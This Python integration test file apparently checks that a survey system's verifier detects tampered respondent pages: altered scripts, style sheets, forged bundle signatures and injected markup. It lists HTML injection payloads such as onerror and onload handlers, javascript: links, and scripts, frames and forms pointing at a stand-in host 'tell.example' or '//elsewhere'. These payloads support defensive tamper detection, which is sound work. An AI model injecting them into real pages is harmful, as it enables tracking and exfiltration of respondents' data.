"""Lies about the respondent's page: to one person by its server, to all by the researcher."""

from nacl.signing import SigningKey

from tests.integration.researcher.liar import Liar
from tests.integration.researcher.lies import lie

NO_PAGE_HAS = "the page holds what no page has: "
OTHER_ORDER = "the page's elements stand in another order than in any page"
OTHER_PAGE = "the page is another one than the bundle statement names"


def shown(liar: Liar, old: str, new: str) -> bytes:
    """Return the page with other words than the researcher's."""
    page = liar.read("page.html")
    assert old.encode() in page
    return page.replace(old.encode(), new.encode(), 1)


@lie("the script is another one", "the page names another client.js")
def _(liar: Liar) -> None:
    liar.edit("client.js", lambda data: data + b"\nfetch('//elsewhere')")


@lie("the second script is another one", "the page names another after.js")
def _(liar: Liar) -> None:
    liar.edit("after.js", lambda data: data + b"\nfetch('//elsewhere')")


@lie("the style sheet is another one", "the page names another style.css")
def _(liar: Liar) -> None:
    liar.edit("style.css", lambda data: data + b"\nbody{background:url(//elsewhere)}")


@lie("the bundle statement is of another survey", "the bundle statement is of another survey")
def _(liar: Liar) -> None:
    liar.sign_page(liar.read("page.html"), mh=bytes(32))


@lie("the bundle statement is somebody else's", "the signature does not hold")
def _(liar: Liar) -> None:
    body = liar.read("bundle.statement")[:68]
    stranger = SigningKey(bytes(32)).sign(b"asv1/bundle\0" + body).signature
    liar.write("bundle.statement", body + stranger)


PAGES = {
    "shows another manifest": ('"survey_id":"', '"survey_id":"a'),
    "shows another questionnaire": ('"version":"', '"version":"9'),
    "says other words": ("只存加密后的一段数据", "只存未加密的一段数据"),
    "leads elsewhere who leaves": ('data-leave="https://', 'data-leave="https://tell.'),
    "names another script": ("client.", "klient."),
    "names another second script": ('type="text/plain" src="', 'type="text/plain" src="//else'),
    "wears another style sheet": ('rel="stylesheet" href="', 'rel="stylesheet" href="//else'),
    "loads a picture": ("</main>", '<img src="/p/17"></main>'),
    "runs a second script": ("</head>", "<script src=x></script></head>"),
    "holds a script in a line": ("<main", '<main onclick="tell()"'),
    "may run any script": ('integrity="sha384-', 'data-was="sha384-'),
}
"""What a page server can show to one person: it has no key to sign it with."""


for name, change in PAGES.items():

    @lie(f"a page made for one person {name}", OTHER_PAGE)
    def _(liar: Liar, change: tuple[str, str] = change) -> None:
        liar.write("page.html", shown(liar, *change))


SIGNED_PAGES = {
    "shows another manifest": (PAGES["shows another manifest"], "the page shows another manifest"),
    "shows another signature": (('"signature">', '"signature">A'), "the page shows another sig"),
    "asks other questions": (PAGES["shows another questionnaire"], "the page shows another quest"),
    "names another script": (PAGES["names another script"], "the page names another client.js"),
    "names another second script": (
        PAGES["names another second script"], "the page names another after.js",
    ),
    "wears another style sheet": (
        PAGES["wears another style sheet"], "the page names another style.css",
    ),
    "runs a script more": (
        ("</head>", '<script src="/x" integrity="sha384-x" defer></script></head>'),
        OTHER_ORDER,
    ),
    "holds a script in a line": (
        ("</head>", "<script>tell()</script></head>"), NO_PAGE_HAS + "<script>",
    ),
    "embeds two manifests": (('id="words"', 'id="manifest"'), "each of its texts once"),
}  # fmt: skip
"""What the researcher could have signed: it must fit what is published beside it."""


for name, (change, caught) in SIGNED_PAGES.items():

    @lie(f"a page that the researcher signed {name}", caught)
    def _(liar: Liar, change: tuple[str, str] = change) -> None:
        liar.sign_page(shown(liar, *change))


SMUGGLED = {
    "an image": '<img src="https://tell.example/17">',
    "an image that fails": "<img src=x onerror=tell()>",
    "a frame": '<iframe src="https://tell.example"></iframe>',
    "an object": '<object data="//tell.example"></object>',
    "an embedded thing": '<embed src="//tell.example">',
    "a redirection": '<meta http-equiv="refresh" content="0;url=https://tell.example">',
    "a softer referrer": '<meta name="referrer" content="unsafe-url">',
    "another base": '<base href="https://tell.example/">',
    "a form": '<form action="https://tell.example"><input></form>',
    "a link that runs": '<a href="javascript:tell()">x</a>',
    "a link that leads away": '<a href="https://tell.example">x</a>',
    "a paragraph that runs": '<p class="muted" onclick="tell()">x</p>',
    "a drawing that runs": "<svg onload=tell()></svg>",
    "a script within a drawing": "<svg><script\n>tell()</script></svg>",
    "a style": '<style>@import "//tell.example";</style>',
    "a style in a line": '<p style="background:url(//tell.example)">x</p>',
    "a script in capitals": '<SCRIPT SRC="//tell.example"></SCRIPT>',
    "a script with a slash": '<script/src="//tell.example"></script>',
    "a file fetched beforehand": '<link title=">" rel=prefetch href=//tell.example>',
    "a comment": "<!-- x -->",
    "an unknown text": '<pre hidden id="zzz">x</pre>',
    "a text that is shown": '<pre id="manifest">x</pre>',
    "something under a known name": '<section lang="en" id="manifest">x</section>',
    "half a tag": "<img src=x onerror=tell() ",
}
"""What nothing on a page may be; each is refused by its own words."""


for name, smuggled in SMUGGLED.items():

    @lie(f"a page that the researcher signed holds {name}", NO_PAGE_HAS)
    def _(liar: Liar, smuggled: str = smuggled) -> None:
        liar.sign_page(shown(liar, "</main>", smuggled + "</main>"))


BENT = {
    "runs when it is looked at": ("<main", '<main onclick="tell()"', NO_PAGE_HAS + "<main onclick"),
    "leaves by a script": (
        'data-leave="https://',
        'data-leave="javascript:',
        NO_PAGE_HAS + "<html",
    ),
    "says a word between two elements": ("<head>", "<head>tell", NO_PAGE_HAS + "tell"),
    "fetches the second script at once": (' type="text/plain"', "", NO_PAGE_HAS + "<script id"),
    "begins as another kind": ("<!doctype html>", "<!doctype htm>", NO_PAGE_HAS + "<!doctype htm"),
    "shows a text in its midst": ("<main", '<p class="muted">x</p><main', OTHER_ORDER),
    "has no words": ('<pre hidden id="words">', '<p class="muted">', OTHER_ORDER),
}


for name, (old, new, caught) in BENT.items():

    @lie(f"a page that the researcher signed {name}", caught)
    def _(liar: Liar, old: str = old, new: str = new) -> None:
        liar.sign_page(shown(liar, old, new))
